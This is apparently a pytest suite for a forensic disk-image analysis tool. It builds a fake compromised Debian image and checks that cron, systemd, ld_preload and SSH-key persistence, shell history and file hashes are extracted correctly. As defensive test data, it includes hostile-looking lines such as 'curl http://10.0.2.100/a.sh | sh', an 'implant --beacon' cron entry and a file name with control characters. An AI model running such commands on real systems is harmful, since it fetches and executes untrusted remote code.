"""The disk engine on a real Linux-like image reached through a qcow2 chain with an absolute backing path."""

from __future__ import annotations

import hashlib

import pandas as pd
import pytest

from tests.helpers import disk_images as b
from tests.helpers.contexts import engine_context
from toolkit.engines.disk import run
from toolkit.engines.disk.functions import expand_functions
from toolkit.engines.disk.persistence import program_of, split_cron_user
from toolkit.errors import DiskError
from toolkit.references import reference_policy
from toolkit.schemas import validate

IMPLANT_SHA = hashlib.sha256(b.IMPLANT).hexdigest()
HOSTILE = "tmp/evil\nname \x1b[31m"


@pytest.fixture(scope="module")
def tables(tmp_path_factory):
    d = tmp_path_factory.mktemp("tables")
    files = {**b.sample_linux_files(), HOSTILE: ("x", 0o755)}
    tree = b.write_tree(d / "tree", files)
    base_raw = b.make_ext4(tree, d / "base.raw", 32)
    (d / "images").mkdir()
    b.to_qcow2(base_raw, d / "images" / "base.qcow2")
    new_raw = b.edit_ext4(base_raw, d / "new.raw", [f"write {d / 'tree/etc/hostname'} /tmp/dropped"])
    (d / "vm").mkdir()
    b.overlay_from(
        new_raw,
        d / "images" / "base.qcow2",
        d / "vm" / "disk.qcow2",
        base_raw=base_raw,
        recorded_backing="/var/lib/libvirt/images/base.qcow2",
    )
    before = hashlib.sha256((d / "vm" / "disk.qcow2").read_bytes()).hexdigest()
    snapshot = {
        "id": "s1",
        "disks": [{"path": "/var/lib/libvirt/images/disk.qcow2", "format": "qcow2", "role": "disk", "snapshot": None}],
    }
    profile = {
        "disk": {
            "functions": ["users", "cronjobs", "services", "ssh", "history", "logs", "packages", "groups"],
            "hash": {"max_size": 1 << 20, "paths": ["/tmp"], "executables": True},
        }
    }
    policy = reference_policy(roots=[d / "vm"], search_paths=[d / "vm", d / "images"])
    out = run(snapshot, engine_context(d / "work", profile, snapshot_id="s1", references=policy))
    assert hashlib.sha256((d / "vm" / "disk.qcow2").read_bytes()).hexdigest() == before
    return out


def test_every_table_matches_its_schema(tables):
    for name, df in tables.items():
        validate(name, df)
    assert not (tables["diagnostics"]["severity"] == "error").any(), tables["diagnostics"]


def test_chain_says_which_files_were_used(tables):
    chain = tables["disk/chain"]
    assert chain["resolved_by"].tolist()[1].startswith("search-path:")
    assert chain["recorded_path"].tolist()[1] == "/var/lib/libvirt/images/base.qcow2"


def test_system_and_users(tables):
    system = tables["disk/system"].iloc[0]
    assert (system["hostname"], system["os"], system["timezone"]) == ("victim", "linux", "Europe/Amsterdam")
    assert system["os_version"].startswith("Debian GNU/Linux 12")
    assert tables["disk/users"]["user"].tolist() == ["root", "alice"]


def test_cron_entry_names_its_program_with_user_split(tables):
    p = tables["disk/persistence"]
    cron = p[(p.kind == "cron") & (p.path == "/etc/cron.d/sync")].iloc[0]
    assert (cron["user"], cron["command"], cron["program"]) == (
        "root",
        "/usr/lib/x/implant --beacon",
        "/usr/lib/x/implant",
    )
    assert cron["program_path"] == "/usr/lib/x/implant" and cron["program_sha256"] == IMPLANT_SHA
    unit = p[p.kind == "systemd"].iloc[0]
    assert unit["program_sha256"] == IMPLANT_SHA and unit["schedule"] == "multi-user.target"
    keys = p[p.kind == "authorized_keys"].iloc[0]
    assert (keys["user"], keys["program"]) == ("alice", "/tmp/.x/run")
    pre = p[p.kind == "ld_preload"].iloc[0]
    assert pre["program_sha256"] == hashlib.sha256(b"\x7fELFlibevil").hexdigest()
    assert "/root/.bashrc" in set(p[p.kind == "shell_rc"]["path"])


def test_history_logs_packages(tables):
    h = tables["disk/shell_history"]
    assert h["command"].tolist() == ["id", "curl http://10.0.2.100/a.sh | sh"]
    logs = tables["disk/logs"]
    assert set(logs["log"]) == {"authlog", "syslog"} and logs["ts"].notna().all()
    assert tables["disk/packages"][["name", "version"]].values.tolist() == [["bash", "5.2"]]


def test_files_hash_executables_and_writable_places_and_keep_hostile_names(tables):
    f = tables["disk/files"].set_index("path")
    assert f.loc["/usr/lib/x/implant", "sha256"] == IMPLANT_SHA
    assert f.loc["/tmp/dropped", "sha256"] == hashlib.sha256(b"victim\n").hexdigest()  # from the overlay
    assert pd.isna(f.loc["/etc/passwd", "sha256"])  # not executable, not in a hashed place
    assert "/" + HOSTILE in f.index  # raw, control characters and all
    assert f.loc["/usr/lib/x/implant", "mode"] == 0o755 and f.loc["/usr/lib/x/implant", "mtime"].tzinfo


def test_unknown_function_refused_before_any_work(tmp_path):
    with pytest.raises(DiskError, match="unknown dissect function.*'no_such_fn'"):
        run(
            {"id": "x", "disks": [{"path": "/nonexistent.qcow2"}]},
            engine_context(tmp_path, {"disk": {"functions": ["users", "no_such_fn"]}}),
        )
    assert expand_functions(["history", "runkeys"]) == ["commandhistory", "runkeys"]


@pytest.mark.parametrize(
    "command, program",
    [
        ("/usr/lib/x/implant --beacon", "/usr/lib/x/implant"),
        ("FOO=1 nohup /bin/sh -c '/tmp/.x/run -d' >/dev/null 2>&1", "/tmp/.x/run"),
        ("-/usr/sbin/sshd -D", "/usr/sbin/sshd"),
        ('bash -c "curl x | sh', "curl"),  # unbalanced quote from a hostile line: no crash
        ("", None),
        # Debian's /etc/crontab: the directory change runs nothing, run-parts is the program
        ("cd / && run-parts --report /etc/cron.hourly", "run-parts"),
        ("cd /var/tmp/.w ; ./upd -q", "./upd"),
    ],
)
def test_program_of(command, program):
    assert program_of(command) == program


def test_split_cron_user_only_for_system_crontabs():
    assert split_cron_user("/etc/crontab", "root run-parts /etc/cron.hourly") == ("root", "run-parts /etc/cron.hourly")
    assert split_cron_user("/var/spool/cron/crontabs/alice", "/home/alice/x") == (None, "/home/alice/x")


def test_dpkg_log_records_become_log_rows_in_dpkgs_own_words():
    import datetime as dt

    from toolkit.engines.disk.functions import log_rows

    at = dt.datetime(2026, 12, 2, 3, 6, 51, tzinfo=dt.UTC)
    records = {
        "dpkg.log": [
            {
                "ts": at,
                "operation": "upgrade",
                "name": "inventory-tools",
                "arch": "all",
                "version_old": "1.0",
                "version": "1.1",
                "status": None,
            },
            {
                "ts": at,
                "operation": "install",
                "name": "tree",
                "arch": "amd64",
                "version_old": None,
                "version": "2.1.0-1",
                "status": None,
            },
            {
                "ts": at,
                "operation": "status",
                "name": "tree",
                "arch": "amd64",
                "version_old": None,
                "version": "2.1.0-1",
                "status": "installed",
            },
        ]
    }
    rows = log_rows(records)
    assert [r["message"] for r in rows] == [
        "upgrade inventory-tools:all 1.0 1.1",
        "install tree:amd64 <none> 2.1.0-1",
        "status installed tree:amd64 2.1.0-1",
    ]
    assert {(r["log"], r["service"], r["ts"]) for r in rows} == {("dpkg", "dpkg", at)}
    assert "dpkg.log" in expand_functions(["packages"])


def test_split_cron_user_keeps_the_command_dissect_already_took_the_user_from():
    # dissect removes "root<TAB>" itself and reports the user; the command's first word is no user then
    line = "cd / && run-parts --report /etc/cron.hourly"
    assert split_cron_user("/etc/crontab", line, "root") == ("root", line)
    assert split_cron_user("/etc/crontab", "root test -x /usr/sbin/anacron", "root") == (
        "root",
        "test -x /usr/sbin/anacron",
    )
    assert split_cron_user("/var/spool/cron/crontabs/alice", "/home/alice/x", "alice") == ("alice", "/home/alice/x")
